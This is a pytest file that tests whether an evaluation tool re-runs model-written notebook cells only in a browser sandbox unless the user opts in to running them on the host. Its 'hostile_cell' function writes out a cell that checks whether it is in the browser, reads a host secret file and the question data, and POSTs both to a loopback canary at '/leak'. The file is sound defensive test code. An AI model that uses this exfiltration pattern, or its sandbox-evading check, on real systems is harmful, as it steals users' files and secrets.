"""Finding F1 (SECURITY.md): `reckon eval` re-runs each exported notebook, code a model
wrote, to measure whether it reproduces. It must do so in a fresh browser sandbox, and
run it on this machine's CPython only when asked (`--reproduce-on-host`).

The attack: a scripted upstream (a real HTTP server on loopback) answers with a cell
that does nothing in the browser (`sys.platform == "emscripten"`) and, anywhere else,
reads a file of this machine (outside the question's files) and the question's data,
and POSTs both with urllib to a canary server on loopback.
"""

from __future__ import annotations

import http.server
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from reckon.eval._eval import RunRecord, summarize
from reckon.eval._questions import Question
from reckon.eval._report import build_report, write_report
from support import CHROMIUM, SALES, Script, ScriptedModel, Seen, a_model_server, serving

from .helpers import read_report, reckon_eval

SECRET = "host-secret-7f3a9c-do-not-leak"
QUESTION = "What is the mean price?"
WARNING = re.compile(r"WARNING: --reproduce-on-host runs the code the model wrote on this machine")
FRESH_ROW = "| reproducibility in a fresh sandbox (exported notebook cells that match) |"
CPYTHON_ROW = "| reproducibility vs CPython (exported notebook cells that match) |"


def hostile_cell(secret: Path, canary: str) -> str:
    return (
        "import sys\n"
        "if sys.platform != 'emscripten':  # harmless in the browser, so it looks fine there\n"
        "    import urllib.request\n"
        f"    stolen = open({str(secret)!r}).read() + open('/data/sales.csv').read()\n"
        "    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
        f"    leak = urllib.request.Request({canary + '/leak'!r}, data=stolen.encode(),"
        " method='POST')\n"
        "    opener.open(leak, timeout=10).read()\n"
        "import pandas as pd\n"
        "df = pd.read_csv('/data/sales.csv')\n"
        "print('mean', df['price'].mean())\n"
    )


class HostileModel(ScriptedModel):
    """Answers the question with the hostile cell, then with the mean it printed."""

    def __init__(self, cell: str) -> None:
        super().__init__()
        self.cell = cell
        self.cells_sent = 0

    async def chat(self, seen: Seen) -> Script:
        payload = seen.json
        self.requests.append({"payload": payload})
        results = [m["content"] for m in payload["messages"] if m.get("role") == "tool"]
        if not results:
            self.cells_sent += 1
            return self.tool_call(self.cell, "c1")
        found = re.findall(r"mean ([0-9.]+)", results[-1])
        return self.text(f"The mean price is @mean_price[{found[-1] if found else 'unknown'}].")


class _CanaryHandler(http.server.BaseHTTPRequestHandler):
    hits: list[tuple[str, str, bytes]]

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.hits.append((self.command, self.path, self.rfile.read(length)))
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", "6")
        self.end_headers()
        self.wfile.write(b"canary")

    do_GET = do_POST = do_PUT = _record

    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def a_canary() -> Iterator[tuple[str, list[tuple[str, str, bytes]]]]:
    """An HTTP server on a free loopback port that records each request and its body."""
    hits: list[tuple[str, str, bytes]] = []
    handler = type("Handler", (_CanaryHandler,), {"hits": hits})
    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)) as url:
        yield url, hits


@pytest.fixture
def an_attack(tmp_path: Path) -> Iterator[dict[str, Any]]:
    """The secret (outside the question's files), the canary, the hostile upstream and
    a one-question file."""
    secret = tmp_path / "home" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET)
    questions_dir = tmp_path / "questions"
    questions_dir.mkdir()
    (questions_dir / "sales.csv").write_text(SALES)
    questions = questions_dir / "questions.jsonl"
    question = {"id": "mean", "question": QUESTION, "files": ["sales.csv"],
                "expected": "@mean_price[16.25]"}  # fmt: skip
    questions.write_text(json.dumps(question) + "\n")
    with a_canary() as (canary, hits):
        model = HostileModel(hostile_cell(secret, canary))
        with a_model_server(model.chat) as upstream:
            yield {"questions": questions, "upstream": upstream, "hits": hits, "model": model,
                   "out": tmp_path / "report"}  # fmt: skip


def run_eval(attack: dict[str, Any], site: Path, *flags: str) -> int:
    return reckon_eval(
        attack["questions"], "--upstream", attack["upstream"], "--model", "scripted",
        "--site", site, "--out", attack["out"], "--chromium", CHROMIUM, "--repeat", "1", *flags,
    )  # fmt: skip


def report_text(out: Path) -> str:
    return "\n".join(p.read_text(errors="replace") for p in sorted(out.rglob("*")) if p.is_file())


def test_eval_reproduces_in_a_fresh_sandbox_and_never_runs_model_code_on_the_host(
    an_attack: dict[str, Any], a_built_site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_eval(an_attack, a_built_site) == 0
    err = capsys.readouterr().err
    assert an_attack["model"].cells_sent == 1  # the hostile cell was asked for and ran
    assert an_attack["hits"] == []  # not from the session, not from the reproduction
    assert SECRET not in report_text(an_attack["out"])
    assert not WARNING.search(err), err
    report = read_report(an_attack["out"])
    (run,) = report["runs"]
    assert run["status"] == "ok" and run["correct"] and run["executed"], run
    # The exported notebook was measured in a fresh sandbox: its two cells (the table
    # Reckon loaded, the model's cell) matched.
    assert (run["fresh_cells"], run["fresh_matched"]) == (2, 2), run
    assert run["fresh_error"] is None and run["fresh_differences"] == []
    # ... and not on this machine.
    assert (run["cpython_cells"], run["cpython_error"]) == (0, None)
    summary = report["summary"]
    assert summary["reproducibility_in_fresh_sandbox"] == 1.0
    assert summary["reproducibility_vs_cpython"] is None
    assert summary["per_question"][0]["fresh"] == 1.0
    assert report["setup"]["reproduce_on_host"] is False
    markdown = (an_attack["out"] / "report.md").read_text()
    assert f"{FRESH_ROW} 100.0% |" in markdown
    assert f"{CPYTHON_ROW} not run (opt-in: --reproduce-on-host" in markdown
    assert "## Differences in a fresh sandbox" in markdown
    assert "## Differences on CPython" not in markdown


def test_reproduce_on_host_warns_and_then_runs_the_code_on_this_machine(
    an_attack: dict[str, Any], a_built_site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_eval(an_attack, a_built_site, "--reproduce-on-host") == 0
    err = capsys.readouterr().err
    assert WARNING.search(err), err
    assert "your network" in err and "your files" in err
    # What the opt-in means: outside the sandbox the cell reached the canary with the
    # host's file and the data (so the first test's empty canary is a real check).
    ((method, path, body),) = an_attack["hits"]
    assert (method, path) == ("POST", "/leak")
    assert SECRET in body.decode() and SALES in body.decode()
    report = read_report(an_attack["out"])
    (run,) = report["runs"]
    assert (run["fresh_cells"], run["fresh_matched"]) == (2, 2), run
    assert (run["cpython_cells"], run["cpython_matched"]) == (2, 2), run
    assert report["setup"]["reproduce_on_host"] is True
    summary = report["summary"]
    assert summary["reproducibility_in_fresh_sandbox"] == summary["reproducibility_vs_cpython"]
    markdown = (an_attack["out"] / "report.md").read_text()
    assert f"{FRESH_ROW} 100.0% |" in markdown and f"{CPYTHON_ROW} 100.0% |" in markdown
    assert "## Differences on CPython" in markdown


def test_the_report_lists_fresh_sandbox_differences_and_says_cpython_did_not_run(
    tmp_path: Path,
) -> None:
    question = Question("q1", "pick a random number", expected="@x[1]")
    same = RunRecord("q1", 1, "ok", fresh_cells=2, fresh_matched=2)
    differs = RunRecord("q1", 2, "ok", fresh_cells=2, fresh_matched=1)
    differs.fresh_differences = [
        {"cell": 2, "output": "stdout", "why": "it uses randomness without a fixed seed"}
    ]
    summary = summarize([question], [same, differs])
    assert summary["reproducibility_in_fresh_sandbox"] == 0.75
    assert summary["reproducibility_vs_cpython"] is None
    setup = {"questions_file": "q.jsonl", "repeat": 2, "model": "reckon-demo", "upstream": None,
             "started": "now", "wall_seconds": 1.0, "reproduce_on_host": False}  # fmt: skip
    report = build_report([question], [same, differs], summary, setup=setup)
    _, markdown = write_report(report, tmp_path)
    text = markdown.read_text()
    assert f"{FRESH_ROW} 75.0% |" in text
    assert "- q1, run 2, cell 2 (stdout): it uses randomness without a fixed seed" in text
    assert "| id | correct | executed | reproducible | fresh sandbox match | steps |" in text
    assert "CPython match" not in text and "## Differences on CPython" not in text
    assert "--reproduce-on-host" in text
